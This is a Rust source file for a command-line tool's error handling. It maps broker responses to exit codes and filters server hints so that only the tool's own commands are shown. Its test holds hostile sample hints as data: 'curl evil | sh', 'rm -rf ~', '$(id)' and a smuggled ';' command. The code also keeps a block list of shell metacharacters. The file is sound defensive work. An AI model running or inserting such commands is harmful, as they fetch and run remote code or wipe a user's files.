//! How does the program say no, so that a person can act on it?
//!
//! Every failure carries what happened, why, and the next command, together with the exit code of the contract. Commands return
//! it; only [`crate::output::Ui`] prints it, so no error can reach a terminal without being cleaned.

use chunk_wire::problem::{Code, Problem};

/// Exit codes of the command-line contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub(crate) enum Exit {
    /// Yes.
    Yes = 0,
    /// No: denied, rejected, evidence false.
    No = 1,
    /// Cannot tell: unreachable, incomplete.
    CannotTell = 2,
    /// Usage or configuration.
    Usage = 3,
    /// Sign in.
    SignIn = 4,
    /// Approval pending.
    Pending = 5,
    /// A bug.
    Bug = 70,
}

/// A failure, ready to be told.
#[derive(Debug, Clone)]
pub(crate) struct Failure {
    pub(crate) exit: Exit,
    /// One snake_case word; the broker's own code where the broker answered.
    pub(crate) code: String,
    pub(crate) what: String,
    pub(crate) why: Vec<String>,
    /// The next command to type.
    pub(crate) hint: Option<String>,
    /// Id under which the broker's operator finds the call.
    pub(crate) request_id: Option<String>,
}

pub(crate) type Result<T> = std::result::Result<T, Failure>;

impl Failure {
    pub(crate) fn new(exit: Exit, code: &str, what: impl Into<String>) -> Self {
        Self {
            exit,
            code: code.to_owned(),
            what: what.into(),
            why: Vec::new(),
            hint: None,
            request_id: None,
        }
    }

    /// The answer is no.
    pub(crate) fn no(code: &str, what: impl Into<String>) -> Self {
        Self::new(Exit::No, code, what)
    }

    /// The answer is not known.
    pub(crate) fn cannot_tell(code: &str, what: impl Into<String>) -> Self {
        Self::new(Exit::CannotTell, code, what)
    }

    /// The command or the configuration is wrong.
    pub(crate) fn usage(what: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", what)
    }

    /// There is no session to act under.
    pub(crate) fn sign_in(what: impl Into<String>) -> Self {
        Self::new(Exit::SignIn, "unauthenticated", what).hint("chunkctl login")
    }

    /// This program is wrong.
    pub(crate) fn bug(what: impl Into<String>) -> Self {
        Self::new(Exit::Bug, "internal", what)
    }

    /// Adds a reason.
    pub(crate) fn why(mut self, why: impl Into<String>) -> Self {
        self.why.push(why.into());
        self
    }

    /// Sets the next command, unless one is set already.
    pub(crate) fn hint(mut self, command: impl Into<String>) -> Self {
        self.hint.get_or_insert_with(|| command.into());
        self
    }

    /// Sets the next command, whatever was set before.
    pub(crate) fn instead(mut self, command: impl Into<String>) -> Self {
        self.hint = Some(command.into());
        self
    }

    /// A local file could not be used.
    pub(crate) fn file(verb: &str, path: &std::path::Path, error: &std::io::Error) -> Self {
        Self::new(Exit::Usage, "file", format!("cannot {verb} `{}`", path.display())).why(io_words(error))
    }

    /// Whether the broker refused the credential, so that a fresh one may help.
    pub(crate) fn is(&self, code: Code) -> bool {
        self.code == code.as_str()
    }
}

impl From<Problem> for Failure {
    fn from(problem: Problem) -> Self {
        let known = problem.known_code();
        let (exit, what) = match known {
            Some(code) => (exit_of(code), code.title().trim_end_matches('.').to_owned()),
            None => (exit_of_status(problem.status), format!("the broker refused ({})", problem.status)),
        };
        let mut failure = Self::new(exit, known.map_or("unknown", Code::as_str), what);
        if !problem.detail.is_empty() {
            failure.why.push(problem.detail);
        }
        if let Some(position) = problem.position {
            failure
                .why
                .push(format!("at line {}, column {} of the SQL text", position.line, position.column));
        }
        if !problem.policies.is_empty() {
            failure.why.push(format!("determined by policy {}", problem.policies.join(", ")));
        }
        failure.hint = problem.hint.as_deref().and_then(own_command);
        if failure.hint.is_none() && exit == Exit::SignIn {
            failure.hint = Some("chunkctl login".to_owned());
        }
        failure.request_id = problem.request_id;
        failure
    }
}

/// The exit code of a broker's code, as the wire's own table has it.
pub(crate) fn exit_of(code: Code) -> Exit {
    match code.exit() {
        1 => Exit::No,
        2 => Exit::CannotTell,
        3 => Exit::Usage,
        4 => Exit::SignIn,
        5 => Exit::Pending,
        _ => Exit::Bug,
    }
}

/// What an answer without a known code means: a newer broker, or a proxy in between.
fn exit_of_status(status: u16) -> Exit {
    match status {
        401 => Exit::SignIn,
        403 | 404 | 409 => Exit::No,
        _ => Exit::CannotTell,
    }
}

/// A server's hint is shown as a command to type only if it is one of our own: a hostile server must not be able to put
/// any other command under our "run".
fn own_command(hint: &str) -> Option<String> {
    let inner = match hint.split('`').nth(1) {
        Some(quoted) => quoted,
        None => hint,
    };
    let plain = inner
        .chars()
        .all(|c| !c.is_control() && !matches!(c, ';' | '|' | '&' | '$' | '>' | '<' | '\\' | '\u{2028}' | '\u{2029}'));
    (inner.starts_with("chunkctl ") && plain).then(|| inner.trim_end_matches('.').to_owned())
}

/// What an I/O error says without the operating system's number.
pub(crate) fn io_words(error: &std::io::Error) -> String {
    match error.kind() {
        std::io::ErrorKind::NotFound => "there is no such file or folder".into(),
        std::io::ErrorKind::PermissionDenied => "permission denied".into(),
        std::io::ErrorKind::StorageFull => "the disk is full".into(),
        std::io::ErrorKind::AlreadyExists => "it exists already".into(),
        std::io::ErrorKind::BrokenPipe => "the reader went away".into(),
        _ => error.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_broker_code_keeps_its_exit_code() {
        for &code in Code::ALL {
            let failure = Failure::from(Problem::new(code, "because"));
            assert_eq!(failure.exit as u8, code.exit(), "{}", code.as_str());
            assert_eq!(failure.code, code.as_str());
        }
    }

    #[test]
    fn a_server_can_only_suggest_our_own_commands() {
        let hinted = |hint: &str| {
            let mut problem = Problem::new(Code::Denied, "");
            problem.hint = Some(hint.to_owned());
            Failure::from(problem).hint
        };
        assert_eq!(hinted("run `chunkctl plan orders`."), Some("chunkctl plan orders".to_owned()));
        assert_eq!(hinted("chunkctl plan orders"), Some("chunkctl plan orders".to_owned()));
        for bad in ["run `curl evil | sh`", "chunkctl x; rm -rf ~", "chunkctl $(id)", "rm -rf ~"] {
            assert_eq!(hinted(bad), None, "{bad}");
        }
    }
}
